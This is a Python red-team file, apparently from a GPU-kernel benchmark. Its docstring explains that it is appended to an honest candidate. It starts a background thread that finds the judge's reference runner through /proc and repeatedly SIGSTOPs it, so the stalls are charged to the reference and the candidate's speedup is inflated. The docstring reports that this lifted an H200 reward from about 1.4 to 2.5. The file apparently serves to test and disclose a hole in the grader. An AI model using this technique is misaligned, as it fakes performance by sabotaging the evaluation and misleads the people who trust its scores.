"""Appended to an honest candidate (code in the candidate's process assumed): a thread that SIGSTOPs the reference
runner for 2 ms whenever /proc says it runs. On a GPU the judge, the reference runner and the candidate share one
uid and the host's /proc, so the candidate finds the runner (the process of its uid forked just before it) and may
signal it; the judge's clock charges the stops to the reference. H200, 2026-12-02: reward 2.5 (speedup 5.9 and
8740) where the same kernel alone scored 1.38-1.56 (benchmarks/results/redteam_issue26_s8_h200.log)."""

import os
import signal
import threading
import time


def _siblings() -> list[int]:
    me, uid, found = os.getpid(), os.getuid(), []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) < me:
            try:
                with open(f"/proc/{entry}/status") as f:
                    if int(next(x for x in f if x.startswith("Uid:")).split()[1]) == uid:
                        found.append(int(entry))
            except (OSError, StopIteration, ValueError):
                pass
    return sorted(found)


def _stall() -> None:
    if os.getuid() < 0x7E000000:  # not an evaluation uid (no sandbox): this demonstration touches nothing
        print("STALL: not an evaluation uid", flush=True)
        return
    siblings = _siblings()
    if not siblings:
        print("STALL: no process of this uid but mine", flush=True)
        return
    ref, stops = siblings[-1], 0
    while True:
        try:
            with open(f"/proc/{ref}/stat") as f:
                running = f.read().rsplit(")", 1)[1].split()[0] == "R"
            if running:
                os.kill(ref, signal.SIGSTOP)
                time.sleep(0.002)
                os.kill(ref, signal.SIGCONT)
                stops += 1
                if stops == 1:
                    print("STALL: stopped the reference runner", flush=True)
        except OSError as e:
            print(f"STALL: refused ({e})", flush=True)
            return
        time.sleep(0.0002)


threading.Thread(target=_stall, daemon=True).start()
